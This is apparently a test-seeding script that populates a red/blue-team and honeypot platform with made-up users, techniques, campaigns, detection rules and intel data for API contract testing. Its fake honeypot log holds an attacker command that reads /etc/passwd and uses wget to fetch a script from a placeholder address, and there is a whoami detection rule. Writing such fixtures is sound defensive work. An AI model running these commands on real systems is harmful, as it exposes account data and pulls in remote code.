"""Puts something of everything into an empty product, and writes what schemathesis is told of it.

Arguments: the product's address, the role to try, the folder to write to. The administrator's password is
CONTRACT_PASSWORD. Everything that is stored here is made up.
"""

import json
import os
import sys
import time

import requests

BASE, ROLE, FOLDER = sys.argv[1:4]
PASSWORD = os.environ["CONTRACT_PASSWORD"]
ROLES = ["admin", "red_tech", "blue_tech", "red_lead", "blue_lead", "viewer"]
NOWHERE = "00000000-0000-7000-8000-000000000000"


class Api:
    """The interface, for one caller."""

    def __init__(self, token=None):
        self.session = requests.Session()
        if token:
            self.session.headers["Authorization"] = f"Bearer {token}"

    def call(self, method, path, want=(200, 201, 202), **more):
        answer = self.session.request(method, f"{BASE}/api/v1{path}", timeout=60, **more)
        if answer.status_code not in want:
            sys.exit(f"{method} {path} answered {answer.status_code}: {answer.text[:500]}")
        return answer

    def get(self, path, **query):
        return self.call("GET", path, params=query).json()

    def post(self, path, body=None, **more):
        return self.call("POST", path, json=body, **more).json()


def sign_in(username):
    body = {"username": username, "password": PASSWORD}
    return Api().post("/auth/login", body)["access_token"]


def ids(entries, key="id"):
    return [entry[key] for entry in entries]


def bundle(techniques):
    """These techniques, with who uses them and what is against them, as a publisher would say it."""
    at = "2024-01-01T00:00:00Z"
    count = iter(range(1, 1_000_000))

    def new(kind, **more):
        named = f"{kind}--00000000-0000-4000-8000-{next(count):012}"
        return {"type": kind, "id": named, "spec_version": "2.1", "created": at, "modified": at, **more}

    def made(kind, external, name, **more):
        references = [{"source_name": "mitre-attack", "external_id": external}]
        return new(kind, name=name, description=f"{name}, told of", external_references=references, **more)

    def related(kind, source, target):
        return new("relationship", relationship_type=kind, source_ref=source["id"], target_ref=target["id"])

    patterns = []
    for technique in techniques:
        tactics = [name.strip() for name in technique["tactic"].split(",")]
        phases = [{"kill_chain_name": "mitre-attack", "phase_name": tactic} for tactic in tactics]
        more = {"kill_chain_phases": phases, "x_mitre_platforms": ["Linux", "Windows"]}
        patterns.append(made("attack-pattern", technique["mitre_id"], technique["name"], **more))
    actor = made("intrusion-set", "G9901", "A made-up group", aliases=["A made-up group", "Somebody"])
    tool = made("tool", "S9901", "A made-up tool")
    course = made("course-of-action", "M9901", "A made-up mitigation")
    objects = [*patterns, actor, tool, course, related("uses", actor, tool)]
    for pattern in patterns[:5]:
        objects += [related("uses", actor, pattern), related("uses", tool, pattern), related("mitigates", course, pattern)]
    return {"type": "bundle", "id": "bundle--00000000-0000-4000-8000-000000000000", "objects": objects}


def cri(techniques):
    """A framework of controls, and which of these techniques they are against."""
    objects = []
    for number, technique in enumerate(techniques[:5]):
        objects.append({
            "capability_id": f"PR.AA-0{number + 1}", "capability_description": "A made-up control",
            "capability_group": "PR.AA", "mapping_type": "mitigates", "attack_object_id": technique["mitre_id"],
            "references": [], "status": "complete",
        })
    metadata = {
        "mapping_framework": "cri_profile", "mapping_framework_version": "v2.1", "attack_version": "16.1",
        "technology_domain": "enterprise", "creation_date": "01/01/2024", "last_update": "01/02/2024",
        "capability_groups": {"PR.AA": "Made-up controls"},
    }
    return {"metadata": metadata, "mapping_objects": objects}


def d3fend():
    """An ontology of one countermeasure."""
    name = {"@id": "d3f:MadeUp", "@type": ["owl:Class"], "d3f:d3fend-id": "D3-MUP", "rdfs:label": "Made Up",
            "d3f:definition": "Made up.", "rdfs:subClassOf": {"@id": "d3f:DefensiveTechnique"},
            "d3f:enables": {"@id": "d3f:Detect"}}
    return {"@context": {}, "@graph": [{"@id": "d3f:Detect", "rdfs:label": "Detect"}, name]}


def counters(techniques):
    """Which of these techniques the countermeasure is against."""
    base = "http://d3fend.mitre.org/ontologies/d3fend.owl#"
    rows = []
    for technique in techniques[:5]:
        rows.append({
            "off_tech_id": {"type": "literal", "value": technique["mitre_id"]},
            "off_tech": {"type": "uri", "value": base + technique["mitre_id"]},
            "off_artifact_rel_label": {"type": "literal", "value": "produces"},
            "off_artifact_label": {"type": "literal", "value": "Process"},
            "def_tech": {"type": "uri", "value": f"{base}MadeUp"},
            "def_artifact_rel_label": {"type": "literal", "value": "analyzes"},
            "def_artifact_label": {"type": "literal", "value": "Process"},
        })
    return {"off_to_def": {"head": {}, "results": {"bindings": rows}}}


def cowrie(address, session):
    """What a honeypot saw of one attacker."""
    common = {"src_ip": address, "session": session, "sensor": "trap-1", "protocol": "ssh"}
    kinds = [
        ("session.connect", {"src_port": 40022, "dst_ip": "10.0.0.2", "dst_port": 22}),
        ("client.version", {"version": "SSH-2.0-Go"}),
        ("login.failed", {"username": "root", "password": "123456"}),
        ("login.success", {"username": "root", "password": "root"}),
        ("command.input", {"input": "uname -a; cat /etc/passwd; wget http://192.0.2.9/x.sh"}),
        ("session.file_download", {"url": "http://192.0.2.9/x.sh", "shasum": "ab" * 32}),
        ("session.closed", {"duration": "12.5"}),
    ]
    now = time.time() - 60
    lines = []
    for second, (kind, fields) in enumerate(kinds):
        at = time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(now + second))
        lines.append(json.dumps({"eventid": f"cowrie.{kind}", "timestamp": at, **common, **fields}))
    return "\n".join(lines) + "\n"


def settle(look, wanted):
    """What is looked for, which follows from what was done a moment ago."""
    for _ in range(100):
        found = look()
        if wanted(found):
            return found
        time.sleep(0.2)
    sys.exit(f"what was stored is not seen after 20 s: {found}")


def users(admin):
    """Users for each role: one who asks, one whose sign-in may end, and one to be changed and deleted."""
    made = {}
    for role in ROLES:
        for use in ["asks", "spare", "victim"]:
            body = {"username": f"{use}-{role.replace('_', '-')}", "password": PASSWORD, "role": role}
            made[use, role] = admin.post("/users", body)["id"]
    return made


def main():
    admin = Api(sign_in("admin"))
    accounts = users(admin)

    # Nothing is fetched but a file of ours.
    techniques = [t for t in admin.get("/techniques", limit=60) if not t["is_subtechnique"]][:30]
    sources = admin.get("/data-sources")
    for source in sources:
        admin.call("PATCH", f"/data-sources/{source['id']}", json={"url": "file:///is/not/there.json"})
    mapping = "cri_profile-v2.1_attack-16.1-enterprise.json"
    published = [
        ("mitre_attack_enterprise", {"url": ("attack.json", bundle(techniques))}),
        ("cri", {"url": (mapping, cri(techniques))}),
        ("d3fend", {"url": ("d3fend.json", d3fend()), "companion_url": ("full-mappings.json", counters(techniques))}),
    ]
    for name, files in published:
        changes = {}
        for field, (path, value) in files.items():
            path = os.path.join(FOLDER, path)
            with open(path, "w", encoding="utf-8") as file:
                json.dump(value, file)
            changes[field] = f"file://{path}"
        source = next(source["id"] for source in sources if source["name"] == name)
        admin.call("PATCH", f"/data-sources/{source}", json=changes)
        admin.post(f"/data-sources/{source}/sync")

    template = admin.get("/test-templates", limit=5)
    tests = []
    for number in range(12):
        body = {"technique_id": techniques[number]["id"], "name": f"Test {number}", "platform": "linux"}
        tests.append(admin.post("/tests", body)["id"])
    # Each somewhere else on its way.
    red = {"red_summary": "It ran", "attack_success": True, "executed_at": "2024-01-01T09:05:00Z"}
    blue = {"blue_summary": "Seen", "detection_result": "detected", "detected_at": "2024-01-01T09:07:00Z"}
    moves = [
        ("POST", "start-execution", None), ("PATCH", "red", red), ("POST", "submit-red", None), ("PATCH", "blue", blue),
        ("POST", "submit-blue", None), ("POST", "validate", {"result": "detected"}),
    ]
    for number, test in enumerate(tests):
        for method, move, body in moves[: number % (len(moves) + 1)]:
            admin.call(method, f"/tests/{test}/{move}", json=body)
    admin.post(f"/tests/{tests[0]}/comments", {"text": "A comment"})
    evidence = []
    for test in tests[:6]:
        files = {"file": ("seen.txt", b"what was seen", "text/plain")}
        evidence.append(admin.call("POST", f"/tests/{test}/evidence", files=files, data={"notes": "A note"}).json()["id"])
    actors = admin.get("/threat-actors")
    campaigns = []
    for number in range(4):
        campaign = admin.post("/campaigns", {"name": f"Campaign {number}", "threat_actor_id": actors[0]["id"]})["id"]
        admin.post(f"/campaigns/{campaign}/tests", {"test_id": tests[number], "phase": "execution"})
        campaigns.append(campaign)
    admin.call("PATCH", f"/campaigns/{campaigns[0]}", json={"status": "active"})
    admin.call("PATCH", f"/campaigns/{campaigns[0]}/schedule", json={"schedule": "monthly"})
    run = admin.call("POST", f"/campaigns/{campaigns[0]}/run", want=(200, 201, 400, 409)).json()

    snapshots = ids([admin.post("/snapshots", {"name": f"Snapshot {n}"}) for n in range(3)])
    feeds = ids([admin.post("/intel/feeds", {"name": f"Feed {n}", "url": f"http://127.0.0.1:9/{n}"}) for n in range(3)])
    scanners = []
    for n in range(3):
        scanners.append(admin.post("/approved-scanners", {"name": f"Scan {n}", "network": f"10.1.{n}.0/24"})["id"])
    rule = (
        "title: A made-up rule\nid: 00000000-0000-4000-8000-000000000001\nstatus: test\nlevel: low\n"
        "description: Made up\ntags: [attack.execution, attack.t1059]\nlogsource: {product: linux}\n"
        "detection:\n  selection:\n    CommandLine|contains: whoami\n  condition: selection\n"
    )
    yaml = {"Content-Type": "application/yaml"}
    admin.call("POST", "/detection-rules", data=rule, headers=yaml)
    rules = ids(admin.get("/detection-rules", limit=5))

    for number in range(3):
        lines = cowrie(f"198.51.100.{number + 1}", f"d1c4a7b0c2a{number}")
        admin.call("POST", "/ingest/cowrie", data=lines, headers={"Content-Type": "application/x-ndjson"})
    attackers = settle(lambda: admin.get("/attackers")["data"], lambda found: len(found) == 3)
    sessions = []
    for attacker in attackers:
        found = admin.get(f"/attackers/{attacker['uuid']}/sessions")
        sessions += [entry["id"] for entry in found["data"]]
    alerts = ids(admin.get("/alerts"))

    fleet = f"[general]\nnet = {os.environ['CONTRACT_NET']}\n"
    for name in ["one", "two", "three"]:
        fleet += f"[{name}]\nservices = redis\n"
    admin.post("/deckies/deploy", {"ini_content": fleet})
    deckies = ["one", "two", "three", "trap-1"]

    victims = [accounts["victim", role] for role in ROLES]
    keys = [admin.post(f"/users/{victims[0]}/api-keys", {"name": f"key {n}", "role": "viewer"})["id"] for n in range(3)]
    notices = ids(admin.get("/notifications"))

    link = ""
    if ROLE == "none":
        token = ""
    elif ROLE == "sensor":
        body = {"name": "a sensor", "role": "sensor"}
        token = admin.post(f"/users/{accounts['asks', 'admin']}/api-keys", body)["key"]
    else:
        token = sign_in(f"asks-{ROLE.replace('_', '-')}")
        own = Api(token)
        notices = ids(own.get("/notifications")) or notices

    if ROLE in ROLES:
        link = Api(token).get(f"/evidence/{evidence[-1]}")["download_url"]
    mitre = ["T1059", *ids(techniques, "mitre_id")]
    known = {
        "/approved-scanners/{id}": {"id": scanners},
        "/alerts/{id}": {"id": alerts},
        "/attackers/{uuid}": {"uuid": ids(attackers, "uuid"), "id": sessions},
        "/campaigns/{id}": {"id": campaigns, "test_id": tests[:4], "run_id": [run.get("id", NOWHERE)]},
        "/compliance/": {"framework_id": ids(admin.get("/compliance/frameworks")), "control_id": ["PR.AA-01"]},
        "/config/users/": {"user_uuid": victims},
        "/d3fend/": {"id": ["D3-MUP"]},
        "/data-sources/{id}": {"id": ids(sources)},
        "/deckies/": {"decky_name": deckies, "name": deckies},
        "/artifacts/": {"decky": deckies},
        "/detection-rules/{id}": {"id": rules},
        "/evidence/{id}/download": {"id": evidence[-1:]},
        "/evidence/{id}": {"id": evidence},
        "/intel/feeds/{id}": {"id": feeds},
        "/knowledge/": {"id": ["S9901", "M9901"]},
        "/observed-gaps/": {"mitre_id": mitre},
        "/notifications/{id}": {"id": notices},
        "/scores/tactic/": {"tactic": ["execution", "persistence"]},
        "/scores/technique/": {"mitre_id": mitre},
        "/scores/threat-actor/": {"id": ids(actors)},
        "/snapshots/{id}": {"id": snapshots},
        "/system/jobs/": {"id": ids(admin.get("/system/jobs"))},
        "/techniques/{mitre_id}": {"mitre_id": mitre},
        "/test-templates/{id}": {"id": ids(template)},
        "/tests/{id}": {"id": tests},
        "/threat-actors/": {"id": ids(actors)},
        "/users/{id}": {"id": victims, "key_id": keys},
    }
    people = [accounts["asks", role] for role in ROLES]
    fields = {
        "technique_id": ids(techniques), "template_id": ids(template), "test_id": tests, "threat_actor_id": ids(actors),
        "red_assignee": people, "blue_assignee": people, "remediation_assignee": people,
    }
    told = {
        "token": token,
        "spare": f"spare-{ROLE.replace('_', '-')}" if ROLE in ROLES else "",
        "never": [accounts[use, role] for use in ["asks", "spare"] for role in ROLES] + [admin.get("/auth/me")["id"]],
        "fields": fields,
        "known": {path: {name: values for name, values in all.items() if values} for path, all in known.items()},
        "link": link.partition("?")[2] if link else "",
    }
    with open(os.path.join(FOLDER, "told.json"), "w", encoding="utf-8") as file:
        json.dump(told, file, indent=1)


main()
